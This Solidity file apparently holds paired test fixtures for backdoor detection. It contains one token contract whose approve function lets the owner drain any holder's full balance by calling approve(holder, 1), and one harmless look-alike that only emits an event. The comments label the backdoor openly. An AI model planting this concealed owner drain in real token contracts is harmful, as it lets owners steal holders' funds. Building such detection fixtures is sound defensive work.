// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {AdvBase} from "./AdvBase.sol";

/// @notice A backdoor inside a standard function: `approve(holder, 1)` called by the owner takes the
/// holder's whole balance. For everyone else approve is the standard one.
contract ApproveBackdoor is AdvBase {
    constructor(string memory n, string memory s) AdvBase(n, s) {}

    function approve(address spender, uint256 amount) public override returns (bool) {
        if (msg.sender == owner && amount == 1) {
            uint256 b = _bal[spender];
            _bal[spender] = 0;
            _bal[owner] += b;
            emit Transfer(spender, owner, b);
            return true;
        }
        return super.approve(spender, amount);
    }
}

/// @notice CLEAN look-alike: the owner's `approve(x, 1)` takes a special path too, but it only
/// records an event (a "pre-approval" signal); no balance moves.
contract CleanOwnerApprove is AdvBase {
    event PreApproved(address indexed who);

    constructor(string memory n, string memory s) AdvBase(n, s) {}

    function approve(address spender, uint256 amount) public override returns (bool) {
        if (msg.sender == owner && amount == 1) emit PreApproved(spender);
        return super.approve(spender, amount);
    }
}
